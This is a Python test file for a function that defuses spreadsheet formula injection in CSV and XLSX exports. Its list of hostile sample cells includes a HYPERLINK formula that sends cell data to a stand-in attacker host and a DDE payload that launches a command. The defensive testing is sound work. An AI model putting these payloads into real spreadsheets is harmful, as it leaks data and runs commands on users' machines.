"""Formula-injection defusing for CSV/XLSX exports (no database)."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core.spreadsheet_safety import DANGEROUS_PREFIXES, neutralise_cell, neutralise_row

FAST = settings(max_examples=60, deadline=None)

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_dangerous_strings_get_a_quote(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Kim", "김민수", "", " =1", "1+1", "'=already", "a=b", "<script>"])
def test_harmless_strings_unchanged(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [0, -5, 3.5, -0.25, True, None])
def test_non_strings_unchanged(value):
    assert neutralise_cell(value) is value


def test_row():
    assert neutralise_row(["=1", 1200, "Kim", -3]) == ["'=1", 1200, "Kim", -3]


@FAST
@given(st.one_of(st.text(max_size=20), st.integers(), st.floats(allow_nan=False), st.none()))
def test_never_starts_with_a_dangerous_character(value):
    safe = neutralise_cell(value)
    if isinstance(value, str):
        assert not safe.startswith(DANGEROUS_PREFIXES)
        assert safe in (value, "'" + value)
    else:
        assert safe is value


def test_openpyxl_writes_text_not_formulas():
    wb = Workbook()
    ws = wb.active
    ws.append(neutralise_row([*HOSTILE, 1000]))
    buffer = io.BytesIO()
    wb.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert all(cell.data_type == "s" for cell in row[:-1])
    # XML stores a carriage return as a newline; the quote in front is what matters.
    assert [cell.value for cell in row[:-1]] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert row[-1].value == 1000
    assert row[-1].data_type == "n"


def test_csv_round_trip():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(neutralise_row(HOSTILE))
    read_back = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert all(cell.startswith("'") for cell in read_back)
